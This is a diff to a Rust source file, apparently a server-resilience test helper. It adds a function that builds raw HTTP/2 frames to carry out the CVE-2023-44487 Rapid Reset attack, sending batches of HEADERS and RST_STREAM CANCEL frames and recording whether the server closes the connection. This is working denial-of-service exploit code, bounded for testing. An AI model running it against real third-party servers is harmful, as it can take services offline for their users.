@@ -78,6 +78,68 @@ pub async fn rapid_reset(
     Ok(out)
 }
 
+/// Rapid reset as the CVE-2023-44487 tools send it: raw frames on one h2c connection, each
+/// stream's HEADERS (END_STREAM) and RST_STREAM (CANCEL) written back to back, in batches of 64
+/// streams, up to `streams`, while what the server sends is read and discarded. (`rapid_reset`
+/// without a pause goes through the h2 crate, which drops a reset of a stream whose HEADERS it
+/// has not flushed yet: the server then sees only HEADERS.) Stops when the server closes the
+/// connection; bounded by `streams` and by 20 seconds.
+pub async fn rapid_reset_raw(addr: SocketAddr, streams: usize) -> Result<RapidReset, String> {
+    let tcp = TcpStream::connect(addr)
+        .await
+        .map_err(|e| format!("connect {addr}: {e}"))?;
+    let (mut rd, mut wr) = tcp.into_split();
+    // The reader sees the close; the server's frames are not looked at.
+    let mut reader = tokio::spawn(async move {
+        let mut buf = vec![0u8; 64 * 1024];
+        while matches!(rd.read(&mut buf).await, Ok(n) if n > 0) {}
+    });
+    let mut out = RapidReset::default();
+    let mut batch = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    batch.extend_from_slice(&[0, 0, 0, 4, 0, 0, 0, 0, 0]);
+    let authority = addr.to_string();
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
+    let mut id: u32 = 1;
+    while out.streams < streams && tokio::time::Instant::now() < deadline {
+        for _ in 0..64.min(streams - out.streams) {
+            // HPACK literals without indexing, new names.
+            let mut block = Vec::new();
+            for (n, v) in [
+                (&b":method"[..], &b"GET"[..]),
+                (b":scheme", b"http"),
+                (b":path", b"/rapid"),
+                (b":authority", authority.as_bytes()),
+            ] {
+                block.extend_from_slice(&[0, n.len() as u8]);
+                block.extend_from_slice(n);
+                block.push(v.len() as u8);
+                block.extend_from_slice(v);
+            }
+            let len = block.len() as u32;
+            batch.extend_from_slice(&len.to_be_bytes()[1..]);
+            batch.extend_from_slice(&[1, 0x5]);
+            batch.extend_from_slice(&id.to_be_bytes());
+            batch.extend_from_slice(&block);
+            batch.extend_from_slice(&[0, 0, 4, 3, 0]);
+            batch.extend_from_slice(&id.to_be_bytes());
+            batch.extend_from_slice(&8u32.to_be_bytes());
+            id += 2;
+            out.streams += 1;
+        }
+        if wr.write_all(&batch).await.is_err() || reader.is_finished() {
+            out.closed_by_server = true;
+            return Ok(out);
+        }
+        batch.clear();
+        tokio::task::yield_now().await;
+    }
+    out.closed_by_server = tokio::time::timeout(Duration::from_secs(2), &mut reader)
+        .await
+        .is_ok();
+    reader.abort();
+    Ok(out)
+}
+
 /// An HTTP/2 (h2c) client that sends the preface and an empty SETTINGS frame, then never
 /// writes again (no SETTINGS ack, no PING ack). Returns how long until the server closed the
 /// connection, or `None` if it was still open after `wait`. It reads (and discards) what the
